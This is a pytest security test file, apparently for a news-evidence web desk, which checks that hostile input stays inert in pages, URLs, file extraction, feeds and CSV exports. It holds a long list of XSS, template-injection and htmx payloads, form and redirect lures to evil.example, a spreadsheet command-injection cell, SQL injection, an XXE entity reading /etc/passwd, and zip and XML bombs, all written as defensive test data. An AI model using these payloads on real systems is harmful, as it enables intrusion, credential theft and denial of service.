# ruff: noqa: E501, PT017
"""Hostile material: whatever a report, a name or an address carries is words on every screen, and nothing of it runs."""

from __future__ import annotations

import csv
import gzip
import io
import re
import zipfile
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser

from sayso.desk.exporting import as_csv
from sayso.errors import InputError
from sayso.evidence.feeds import entries
from sayso.ledger import Ledger
from sayso.model.exploring import IncidentLine
from sayso.model.ledger import Project
from sayso.text.documents import extract
from tests.desk.browsing import Window, window
from tests.desk.served import Desk
from tests.store.reports import added, captured

RUN = "window.__ran=1"
PAYLOADS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}//", f"</script><script>{RUN}</script>", f"<scr<script>ipt>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img src=x:x onerror='{RUN}'//", f'"><img src=x onerror={RUN}>', f"'><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<body onload={RUN}>", f"<details open ontoggle={RUN}>x",
    f"<video><source onerror={RUN}>", f"<audio src=x onerror={RUN}>", f"<input autofocus onfocus={RUN}>", f"<marquee onstart={RUN}>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'>", f"<iframe src=javascript:parent.{RUN}>", f"<object data=javascript:{RUN}>",
    "<embed src=https://evil.example/x>", f"<a href=javascript:{RUN}>press</a>", f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{RUN}", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}",
    "{{ 7|add:35 }}", "{% include 'desk/page.html' %}", "{{ request.user.password }}", "{% load static %}", "${7*6}", "#{7*6}", "<%= 7*6 %>",
    "<div hx-get=/evidence/ hx-trigger=load>", "<div data-hx-post=/group-now/ data-hx-trigger=load>", f"<div hx-on:load={RUN}>",
    f"<div hx-on::after-init={RUN}>", f"<b hx-vals='js:{{a:{RUN}}}'>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x)</style>", "<style>*{display:none!important}</style>", "<p style=position:fixed;inset:0>over",
    "<p class='unseen told'>over", "<img srcset='https://evil.example/a 1x'>", "<form action=https://evil.example/><button>Sign in",
    "<form id=marking><input name=csrfmiddlewaretoken>", "<!--", "-->", "<![CDATA[", "]]>", "<?xml version='1.0'?>", "<title>", "</title></head><body>",
    "<textarea>", "</textarea>", "<plaintext>", "<noscript><p title='</noscript><img src=x onerror=window.__ran=1>'>", "\u202egnp.exe", "\u2066x\u2069",
    "a\u200b\u200db", "W" * 600, "\U0001f4a3" * 50, "__proto__", "constructor.prototype", "=HYPERLINK(\"https://evil.example\")", "+cmd|' /C calc'!A0",
    "@SUM(1)", "-1+1", "' OR 1=1 --", "%3Cscript%3E", "\x1b[31m", "\ufeff<script>", "´`<script>´",
]  # fmt: skip
SAID = "A spokesman said on Friday that shelling of Benghazi had killed two men. "


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project in which everything that somebody else writes is hostile."""
    folder = tmp_path_factory.mktemp("hostile") / "project"
    third = len(PAYLOADS) // 3
    titles = [" ".join(PAYLOADS[n : n + third]) for n in range(0, len(PAYLOADS), third)]
    with Ledger.create(folder, Project(name=PAYLOADS[0], user="tests")) as ledger:
        first = captured(
            SAID + "\n" + "\n".join(f"{one} {SAID}" for one in PAYLOADS[:3]) + "\n".join(PAYLOADS), f"{PAYLOADS[6]}.txt"
        )
        others = [captured(f"{SAID} Version {n}.", f"{PAYLOADS[4]} {n}.txt", title=title, source=PAYLOADS[n])
                  for n, title in enumerate(titles)]  # fmt: skip
        added(ledger, first, *others)
        ledger.group()
        code = next(iter(ledger.incidents())).code
        for payload in PAYLOADS:
            ledger.note("note", code, {"text": payload}, reason=payload)
        ledger.exploration.tag([code], PAYLOADS[5][:70], PAYLOADS[7])
    return folder


def inert(one: Window, path: str) -> None:
    """A screen on which nothing ran and nothing came of the material but words."""
    page = one.go(path)
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.__ran === undefined"), path
    made = "main iframe, main object, main embed, main base, main style, main marquee, main plaintext, main video, main audio, "
    made += "main math, main [onerror], main [onload], main [onfocus], main [hx-get], main p[style], main form[action*=evil], main #told .unseen, img[src=x]"
    assert page.locator(made).count() == 0, path
    assert page.evaluate("Object.prototype.hasOwnProperty('ran') === false")
    assert "42" not in page.title()


def test_nothing_of_it_runs_on_any_screen(desk: Desk, browser: Browser) -> None:
    admin = desk.person("admin")
    for payload in PAYLOADS[::7]:
        admin.submit("/explore/searches/", {"name": payload}, form="/explore/")
    with Ledger.open(desk.folder) as ledger:
        reports, code = [one.id for one in ledger.reports()], next(iter(ledger.incidents())).code
    admin.submit(f"/reports/{reports[0]}/show/", {"what": "text", "always": "yes"}, form=f"/reports/{reports[0]}/")
    with window(browser, desk) as one:
        one.sign_in("admin")
        screens = [
            "/",
            "/explore/",
            "/match/",
            "/agreements/",
            "/evidence/",
            "/evidence/log/",
            "/jobs/",
            "/accounts/",
            f"/incidents/{code}/",
        ]
        for path in (*screens, *(f"/reports/{report}/" for report in reports[:2])):
            inert(one, path)
        page = one.go(f"/reports/{reports[0]}/")
        page.keyboard.press("v")
        page.wait_for_selector("#text")
        inert(one, f"/reports/{reports[0]}/")


REFLECTED = ["/?words={}", "/?source={}&story={}", "/explore/?words={}&place={}&tag={}", "/explore/here/?code={}", "/match/?a={}&b={}",
             "/evidence/?q={}", "/evidence/log/?target={}&by={}", "/grouping/?next={}&job={}", "/jobs/?page={}", "/reports/{}/",
             "/incidents/{}/", "/agreements/{}/", "/sign-in/?next={}", "/reports/next/?after={}"]  # fmt: skip


@pytest.mark.parametrize("path", REFLECTED)
def test_what_an_address_says_comes_back_as_words(desk: Desk, path: str) -> None:
    admin = desk.person("admin")
    for payload in PAYLOADS:
        answer = admin.get(path.replace("{}", quote(payload, safe="")))
        assert answer.status_code in {200, 302, 400, 404}, (payload, answer.status_code)
        if "<" in payload and re.search(r"<\w+[ >]", payload):
            bare = payload.strip("\ufeff")
            assert bare not in answer.text or bare in {"<title>", "</title></head><body>"}, payload


def zipped(name: str, data: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return made.getvalue()


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "lol">{LAUGHS}]>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
FILES = {
    "bomb.zip": zipped("a", bytes(20_000_000)), "nested.zip": zipped("a.zip", zipped("a", bytes(5_000_000))),
    "bomb.docx": zipped("word/document.xml", bytes(9_000_000)), "bomb.epub": zipped("mimetype", b"application/epub+zip"),
    "bomb.gz": gzip.compress(bytes(20_000_000)), "laughs.xhtml": f"{BOMB}<html><body>&l9;</body></html>".encode(),
    "outside.xhtml": f"{OUTSIDE}<html><body><p>&x;</p></body></html>".encode(),
    "deep.html": b"<html><body>" + b"<div>" * 100_000, "large.html": b"<html><body><p>" + b"x " * 10_000_000,
    "crowd.html": b"<html><body><p " + b"".join(b"a%d " % n for n in range(50_000)), "nul.txt": b"a\x00b", "signs.txt": b"(" * 300_000,
    "half.txt": b"\xed\xa0\x80", "polyglot.html": b"%PDF-1.4\n<html><script>window.__ran=1</script>",
}  # fmt: skip


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_is_refused_in_one_sentence_that_names_it(name: str) -> None:
    try:
        text = extract(FILES[name], name).text
    except InputError as error:
        assert re.fullmatch(rf"{re.escape(name)}: [^\n]*\.", str(error))
    else:  # a page with entities of its own is read without them
        assert name in {"laughs.xhtml", "outside.xhtml"}
        assert len(text) < 100
        assert "root:x" not in text


@pytest.mark.parametrize("head", [BOMB.replace("html", "rss"), OUTSIDE.replace("html", "rss")])
def test_a_feed_unfolds_nothing_and_reads_no_file(head: str) -> None:
    feed = f"{head}<rss version='2.0'><channel><item><title>&l9;&x;</title><link>https://example.org/</link></item></channel></rss>"
    try:
        found = entries(feed.encode(), "feed.xml", None)
    except InputError as error:
        assert str(error).startswith("feed.xml: ")
    else:
        assert not any("root:x" in (one.title or "") or len(one.title or "") > 1_000 for one in found)


def test_a_title_of_a_feed_is_words() -> None:
    for payload in PAYLOADS:
        title = payload.replace("&", "&amp;").replace("<", "&lt;").replace("\x1b", "")
        feed = f"<rss version='2.0'><channel><item><title>{title}</title><link>https://example.org/</link></item></channel></rss>"
        [found] = entries(feed.encode(), "feed.xml", None)
        assert "\u202e" not in (found.title or "")


def test_no_cell_of_an_export_is_a_formula() -> None:
    """Whatever a spreadsheet takes for the end of a cell."""
    for payload in PAYLOADS:
        for tag in (payload, f"a;{payload}", f"a\n{payload}"):
            line = IncidentLine(code="XX-1", kind="other", title=tag, tags=("a", tag))
            [_, row] = csv.reader(io.StringIO("".join(as_csv([line])), newline=""))
            for part in re.split(r"[;\t\r\n]", "\n".join(row)):
                assert part.lstrip(" ")[:1] not in tuple("=+-@\uff1d\uff0b\uff0d\uff20"), payload
